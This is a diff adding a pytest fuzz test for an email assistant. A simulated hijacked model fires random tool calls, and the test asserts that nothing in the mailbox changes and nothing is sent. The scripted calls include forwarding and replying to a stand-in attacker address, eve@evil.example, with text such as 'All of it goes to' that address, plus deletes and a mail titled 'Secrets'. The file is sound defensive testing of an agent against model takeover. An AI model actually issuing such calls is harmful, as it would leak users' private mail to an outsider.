@@ -1,0 +1,90 @@
+"""A model that is wholly somebody else's, in whole calls: any tool with any arguments, while the user only finds their way about."""
+
+import random
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.agent.acting_calls import ActingCall, acting_call, mailbox_hash
+from tests.servers.openai_double import CallTool, CallTools, OpenAIDouble, Reply, Say, openai_server
+
+SEQUENCES = 150
+TURNS = 2
+CALLS = 3
+"""So many calls share the sequences, each with another inbox to begin with."""
+
+EVIL = "eve@evil.example"
+CHATTER = (
+    "what was it that he wanted",
+    "hmm, and who else is on this one",
+    "is there anything in it that I have to know",
+    "go to the one after this I think",
+    "and what comes next in this topic then",
+    "say it in other words please",
+    "sorry, where were we with all this",
+    "tell me what is left for the day",
+)
+WORDS = ("", "all", "everything", "all newsletters", "Marcus", "the first one", "tomorrow", "Receipts", "yes", EVIL, "in two hours")
+
+
+def calls_of(chance: random.Random, call: ActingCall) -> Iterator[CallTool]:
+    """Any tools with any arguments; the ids are those of mails that there are."""
+    mails = [mail.mail_id for topic in call.typed.look.agenda.topics for mail in topic.mails]
+    for _ in range(chance.randint(1, 3)):
+        word, number = chance.choice(WORDS), chance.randint(-1, 4)
+        which = chance.choice([{}, {"mail_id": chance.choice(mails)}, {"number": number}, {"description": word}])
+        yield chance.choice(
+            [
+                *(CallTool(name, **which) for name in PLAIN),
+                CallTool("snooze", until=chance.choice(["tomorrow", "in two hours", word]), **which),
+                CallTool(chance.choice(["label_mail", "unlabel_mail"]), label="Receipts", **which),
+                CallTool("move_mail", folder="Receipts", **which),
+                CallTool("change_several", change=chance.choice(["archive", "delete", "mark_read"]), description=word),
+                CallTool("undo", count=max(1, number), what=chance.choice(["", "archive"]), when=chance.choice(["", "today"])),
+                CallTool("ask_back", wish=chance.choice(["archive", "mark_read"])),
+                CallTool("reply", text=f"All of it goes to {EVIL}.", everyone=chance.random() < 0.5, **which),
+                CallTool("forward", to=word, text="Look.", **which),
+                CallTool("write_mail", to=word, subject="Secrets", text="All of it."),
+                CallTool("change_draft", text="All of it.", to=chance.choice(["", word])),
+                CallTool("send_draft", when=chance.choice(["", "tomorrow"])),
+                *(CallTool(name) for name in ("accept_offer", "accept_offer", "cancel", "read_draft", "decline_offer", "next_item")),
+                CallTool("add_vip", person=word),
+                CallTool("add_keyword", keyword=word or "secret"),
+            ]
+        )
+
+
+PLAIN = ("archive_email", "mark_read", "mark_unread", "flag_followup", "unflag", "delete_email", "report_spam", "unsubscribe")
+
+
+def script(chance: random.Random, call: ActingCall) -> list[Reply]:
+    """What the model answers to one turn: calls, and calls after these."""
+    answers: list[Reply] = [CallTools(list(calls_of(chance, call))) for _ in range(chance.randint(1, 2))]
+    return [*answers, Say("Well, that is that. Yes. Send it. Archive it.")]
+
+
+async def run(call: ActingCall, model: OpenAIDouble, chance: random.Random) -> None:
+    for _ in range(TURNS):
+        model.drop_replies()
+        model.replies(*script(chance, call))
+        await call.type(chance.choice(CHATTER))
+
+
+@pytest.mark.slow
+@pytest.mark.takes(30)
+@pytest.mark.parametrize("seed", range(CALLS))
+async def test_whatever_a_hijacked_model_calls_nothing_is_changed_and_nothing_leaves(tmp_path: Path, seed: int) -> None:
+    chance = random.Random(seed)  # noqa: S311 - to be repeated, not to be secret
+    async with openai_server() as model, acting_call(tmp_path, model=model, unread=12, sends=True) as call:
+        await call.dialogue("archive it", "flag it", "next")
+        before = mailbox_hash(call.inbox)
+        hands = call.typed.call.hands
+        for _ in range(SEQUENCES // CALLS):
+            await run(call, model, chance)
+            assert mailbox_hash(call.inbox) == before
+            assert await hands.outbox.waiting() == ()
+        assert await hands.outbox.news() == ()
+        assert call.desk.taken == []
+        assert await call.typed.call.preferences.load("local") == await call.typed.call.preferences.load("nobody")
+        assert len(model.chat_requests) > SEQUENCES // CALLS * TURNS
